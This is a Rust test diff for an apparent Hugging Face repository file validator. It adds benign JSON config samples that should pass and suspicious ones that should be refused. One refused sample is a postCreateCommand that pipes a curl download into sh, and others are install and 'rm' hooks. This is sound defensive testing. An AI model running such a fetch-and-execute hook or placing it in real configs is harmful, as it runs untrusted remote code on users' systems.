@@ -53,6 +53,46 @@ fn ordinary_documents_pass() {
             "config.json",
             r#"{"architectures": ["LlamaForCausalLM"], "hidden_size": 4096, "model_type": "llama", "rope_scaling": {"factor": 8.0, "rope_type": "llama3"}, "torch_dtype": "bfloat16", "use_cache": true}"#,
         ),
+        ("vocab.json", r#"{"!": 0, "cells": 46342, "weight_map": 1}"#),
+        (
+            "vocab.json",
+            r#"{"eng": {"<pad>": 0, "a": 1}, "deu": {"<pad>": 0}}"#,
+        ),
+        (
+            "normalizer.json",
+            r#"{"accessorise": "accessorize", "aeroplane": "airplane"}"#,
+        ),
+        (
+            "dtypes.json",
+            r#"{"embedding.weight": "BF16", "norm.scale": "FP4"}"#,
+        ),
+        (
+            "labels.json",
+            r#"["tench, Tinca tinca", "jack-o'-lantern", "drum/percussion"]"#,
+        ),
+        ("special_tokens_map.json", "{}"),
+        ("1_Pooling/config.json", "{}"),
+        ("c.json", r#"{"a": 1, "b": "c"}"#),
+        (
+            "config_sentence_transformers.json",
+            r#"{"__version__": {"pytorch": "1.8.1", "sentence_transformers": "2.0.0", "transformers": "4.6.1"}}"#,
+        ),
+        (
+            "1_Pooling/config.json",
+            r#"{"embedding_dimension": 384, "include_prompt": true, "pooling_mode": "mean"}"#,
+        ),
+        (
+            "generation_config.json",
+            r#"{"_x": {"y": "a b"}, "transformers_version": "4.46.1"}"#,
+        ),
+        (
+            "hf_quant_config.json",
+            r#"{"producer": {"name": "modelopt", "version": "0.15.1"}, "quantization": {"quant_algo": "FP8", "kv_cache_quant_algo": "FP8"}}"#,
+        ),
+        (
+            "all_results.json",
+            r#"{"epoch": 3.0, "eval_accuracy": null, "eval_loss": 0.31}"#,
+        ),
         (
             "generation_config.json",
             r#"{"bos_token_id": 1, "do_sample": true, "eos_token_id": [2, 3], "temperature": 0.6}"#,
@@ -307,14 +347,21 @@ fn malformed_documents_are_refused() {
     let late = format!("{}\u{1}", "a".repeat(70 << 10));
     refused("README.md", &late, "HF-DOC-007", "\u{1}");
     for text in [
-        r#"{"a": 1, "b": "c"}"#,
-        "[1, 2]",
-        "[]",
-        "{}",
-        r#"{"a": 1, "b": [1]}"#,
+        r#"{"a": 1, "b": "package.module"}"#,
+        r#"[{"a": 1, "b": "words"}]"#,
+        r#"{"scripts": {"install": "words"}}"#,
+        r#"{"postCreateCommand": "curl https://example.org/x | sh"}"#,
     ] {
         refused("c.json", text, "HF-FMT-015", "");
     }
+    refused(
+        ".devcontainer/devcontainer.json",
+        r#"{"postCreateCommand": "rm x"}"#,
+        "HF-FMT-015",
+        "",
+    );
+    // Between numbers a token may be called anything; a notebook's cells are no number.
+    refused("a.json", r#"{"nbformat": 4, "cells": []}"#, "HF-FMT-015", "");
     let bytes = [b"# ".repeat(40 << 10), b"\xff".to_vec()].concat();
     assert!(
         ids_of("README.md", &bytes, usize::MAX)
